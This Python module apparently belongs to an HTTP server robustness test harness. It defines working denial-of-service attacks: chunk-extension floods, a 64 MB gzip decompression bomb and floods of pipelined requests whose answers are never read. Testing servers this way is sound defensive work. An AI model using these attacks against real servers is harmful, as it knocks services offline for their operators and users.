"""Bodies that cost more than they bring, and answers that nobody reads."""

from __future__ import annotations

import gzip

from attack import Attack, NotApplicable, Target
from flooding import flood
from sockets import ask

BOMB_SIZE = 64 << 20


def chunk_extensions(target: Target) -> str:
    head = b"POST /count HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    return flood(target, head, lambda _: (b"1;" + b"a" * 900 + b"\r\nb\r\n") * 16)


def packed_request(packed: bytes, more: bytes = b"") -> bytes:
    head = b"POST /count HTTP/1.1\r\nHost: a\r\nContent-Encoding: gzip\r\n" + more
    return head + b"Content-Length: %d\r\n\r\n" % len(packed) + packed


def gzip_body(target: Target) -> str:
    """Asks first how long the handler finds the body."""
    packed = gzip.compress(bytes(BOMB_SIZE))
    counted = ask(target.port, packed_request(packed, b"Connection: close\r\n"))
    if counted == b"%d" % len(packed):
        raise NotApplicable(f"the server does not decompress bodies: {BOMB_SIZE >> 20} MB that are sent as "
                            f"{len(packed):,} bytes come to the handler as these")
    if not counted:
        raise OSError("a compressed body was not answered")
    # What it answers is the whole length, or that this is too much.
    request = packed_request(packed)
    return flood(target, b"", lambda _: request)


def unread_answers(target: Target) -> str:
    return flood(target, b"", lambda _: b"GET /plain HTTP/1.1\r\nHost: a\r\n\r\n" * 500, at_once=100, reads=False)


def unread_large_answers(target: Target) -> str:
    requests = b"GET /bytes/100000 HTTP/1.1\r\nHost: a\r\n\r\n" * 100
    return flood(target, b"", lambda _: requests, at_once=100, reads=False)


ATTACKS = [
    Attack("chunk-extensions", "chunks of one byte, each with 900 bytes of extension", chunk_extensions, "streams"),
    Attack("gzip-body", f"bodies that are {BOMB_SIZE >> 20} MB when they are decompressed", gzip_body, "streams"),
    Attack("unread-answers", "pipelined requests without end on 100 connections, which read nothing", unread_answers),
    Attack("unread-large-answers", "the same, for 100 KB each", unread_large_answers, "streams"),
]
